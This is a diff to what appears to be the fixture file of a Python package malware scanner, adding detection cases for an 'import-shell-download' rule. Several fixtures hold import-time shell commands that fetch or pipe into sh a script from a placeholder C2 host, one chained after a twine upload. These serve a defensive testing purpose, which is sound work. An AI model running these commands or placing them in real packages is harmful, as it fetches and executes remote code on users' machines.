@@ -511,6 +511,18 @@ IMPORT_CURL = f"""\
 import os
 os.system("curl -fsSL {C2}/x.sh | sh")
 """
+# A release script at the top of an sdist: builds, then publishes to the index it names.
+IMPORT_PUBLISH = """\
+from subprocess import Popen
+Popen("python setup.py sdist bdist_wheel", shell=True).wait()
+UPLOAD = "python -m twine upload --repository-url https://upload.pypi.org/legacy/ dist/*"
+Popen(UPLOAD, shell=True).wait()
+"""
+# The same publish step with a download chained after it.
+IMPORT_PUBLISH_THEN_FETCH = f"""\
+import os
+os.system("twine upload dist/* && curl -fsSL {C2}/x.sh -o /tmp/x.sh")
+"""
 # ez_setup.py picks a downloader by asking which clients are installed.
 CURL_VERSION_PROBE = """\
 import os
@@ -1278,9 +1290,14 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
         benign=[module(CLI_SUBPROCESS), module(ENV_SUBPROCESS), setup_py(IMPORT_GIT)],
     ),
     "import-shell-download": RuleFixtures(
-        positive=[module(IMPORT_CURL), module(IMPORT_POWERSHELL_LIST)],
+        positive=[
+            module(IMPORT_CURL),
+            module(IMPORT_POWERSHELL_LIST),
+            module(IMPORT_PUBLISH_THEN_FETCH),
+        ],
         benign=[
             module(IMPORT_GIT),
+            module(IMPORT_PUBLISH),
             module(RUNTIME_CURL),
             setup_py(IMPORT_CURL),
             module(CURL_VERSION_PROBE),
